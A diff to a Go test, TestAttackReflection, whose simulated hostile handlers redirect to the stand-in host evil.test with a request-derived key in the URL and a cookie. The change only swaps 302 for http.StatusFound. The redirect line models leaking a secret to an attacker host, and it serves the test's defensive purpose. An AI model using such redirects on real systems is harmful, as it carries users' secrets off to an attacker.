@@ -30,7 +30,7 @@ func TestAttackReflection(t *testing.T) {
 		"cookie and redirect": func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Location", "https://evil.test/?"+key(r))
 			w.Header().Set("Set-Cookie", "k="+key(r))
-			w.WriteHeader(302)
+			w.WriteHeader(http.StatusFound)
 		},
 		"trailer": func(w http.ResponseWriter, r *http.Request) {
 			w.Header().Set("Trailer", "X-Echo")
